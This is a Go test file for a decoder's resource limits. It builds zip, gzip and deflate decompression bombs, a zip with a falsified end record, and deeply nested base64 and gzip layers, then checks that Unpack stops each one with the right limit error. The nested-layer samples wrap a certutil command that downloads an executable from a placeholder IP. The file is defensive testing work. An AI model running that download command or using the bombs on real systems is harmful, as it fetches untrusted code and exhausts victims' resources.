package decode

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"testing"
)

// zeroZip is a zip whose one member inflates to n zero bytes, written in
// chunks so the test itself never holds the inflated member.
func zeroZip(t testing.TB, name string, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	fw, err := w.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 1<<20)
	for left := n; left > 0; left -= len(chunk) {
		fw.Write(chunk[:min(left, len(chunk))])
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// manyZip is a zip of n one-byte members.
func manyZip(t testing.TB, n int) []byte {
	t.Helper()
	files := make([]file, n)
	for i := range files {
		files[i] = file{fmt.Sprintf("f%04d.txt", i), []byte("x")}
	}
	return zipOf(t, files...)
}

// limitCase is a bomb or an over-deep input with the limit it must hit.
type limitCase struct {
	name      string
	in        string
	lim       Limits
	wantLimit string // the LimitError's Limit
	wantIn    string // a step whose Limit mentions it
}

func limitCases(t *testing.T) []limitCase {
	text := []byte("certutil -urlcache -f http://198.51.100.1/p.exe")
	nestedB64 := string(text)
	for range 12 {
		nestedB64 = b64([]byte(nestedB64))
	}
	nestedGz := text
	for range 12 {
		nestedGz = gz(t, nestedGz)
	}
	big := zipOf(t, file{"a.bin", bytes.Repeat([]byte("A"), 600<<10)}, file{"b.bin", bytes.Repeat([]byte("B"), 600<<10)}, file{"c.bin", bytes.Repeat([]byte("C"), 600<<10)})
	layer := zeroZip(t, "zeros.bin", 1<<20)
	var files []file
	for i := range 16 {
		files = append(files, file{fmt.Sprintf("%d.zip", i), layer})
	}
	bomb42 := zipOf(t, files...)
	lying := manyZip(t, 2000)
	eocd := bytes.LastIndex(lying, []byte("PK\x05\x06"))
	binary.LittleEndian.PutUint16(lying[eocd+8:], 1)
	binary.LittleEndian.PutUint16(lying[eocd+10:], 1)
	var frags []string
	for i := range 50 {
		frags = append(frags, psEnc(fmt.Sprintf("Write-Output step%02d", i)))
	}

	return []limitCase{
		{"zip bomb member", "x=" + b64(zeroZip(t, "zeros.bin", 40<<20)), Limits{}, "MaxMemberBytes", `member "zeros.bin"`},
		{"gzip bomb", "x=" + b64(gz(t, make([]byte, 8<<20))), Limits{MaxMemberBytes: 1 << 20}, "MaxMemberBytes", "gzip stream"},
		{"raw deflate bomb", "x=" + b64(deflated(t, make([]byte, 4<<20))), Limits{MaxMemberBytes: 1 << 20}, "MaxMemberBytes", "deflate stream"},
		{"nested zip bomb total", "x=" + b64(bomb42), Limits{MaxTotalBytes: 4 << 20}, "MaxTotalBytes", ""},
		{"nested zip bomb members", "x=" + b64(bomb42), Limits{MaxMembers: 10}, "MaxMembers", ""},
		{"too many members", "x=" + b64(manyZip(t, 2000)), Limits{}, "MaxMembers", "a zip of 2000 members"},
		{"lying end record", "x=" + b64(lying), Limits{}, "MaxMembers", "a zip of 2000 members"},
		{"deep base64", nestedB64, Limits{}, "MaxDepth", "nesting of decodings"},
		{"deep gzip", "x=" + b64(nestedGz), Limits{}, "MaxDepth", "compression layers"},
		{"total bytes", "x=" + b64(big), Limits{MaxTotalBytes: 1 << 20}, "MaxTotalBytes", "MaxTotalBytes"},
		{"steps", strings.Join(frags, " "), Limits{MaxSteps: 10}, "MaxSteps", ""},
	}
}

func TestLimits(t *testing.T) {
	for _, tt := range limitCases(t) {
		t.Run(tt.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			res, err := Unpack(context.Background(), tt.in, tt.lim)
			runtime.ReadMemStats(&after)
			var le *LimitError
			if !errors.As(err, &le) || !errors.Is(err, ErrLimit) {
				t.Fatalf("err = %v, want a *LimitError; steps %q", err, summary(res.Steps))
			}
			if le.Limit != tt.wantLimit {
				t.Errorf("limit %s (%v), want %s", le.Limit, err, tt.wantLimit)
			}
			if res.Limit != err.Error() {
				t.Errorf("Result.Limit %q != err %q", res.Limit, err)
			}
			if tt.wantIn != "" {
				found := false
				for _, s := range res.Steps {
					found = found || strings.Contains(s.Limit, tt.wantIn)
				}
				if !found {
					t.Errorf("no step limit mentions %q: %q", tt.wantIn, summary(res.Steps))
				}
			}
			lim := tt.lim.withDefaults()
			t.Logf("allocated %d KiB, %d steps: %v", (after.TotalAlloc-before.TotalAlloc)>>10, len(res.Steps), err)
			// Allocations (an upper bound of the peak) stay within a few
			// times the byte limit plus the decompressors' fixed costs.
			if grown := after.TotalAlloc - before.TotalAlloc; grown > uint64(4*lim.MaxTotalBytes+8<<20) {
				t.Errorf("allocated %d MiB for a %d MiB total limit", grown>>20, lim.MaxTotalBytes>>20)
			}
			if len(res.Steps) > lim.MaxSteps {
				t.Errorf("%d steps over MaxSteps %d", len(res.Steps), lim.MaxSteps)
			}
		})
	}
}

func TestLimitErrorText(t *testing.T) {
	_, err := Unpack(context.Background(), "x="+b64(gz(t, make([]byte, 3<<20))), Limits{MaxMemberBytes: 2 << 20})
	want := "decode: gzip stream exceeds MaxMemberBytes (2 MiB)"
	if err == nil || err.Error() != want {
		t.Fatalf("err = %v, want %q", err, want)
	}
}
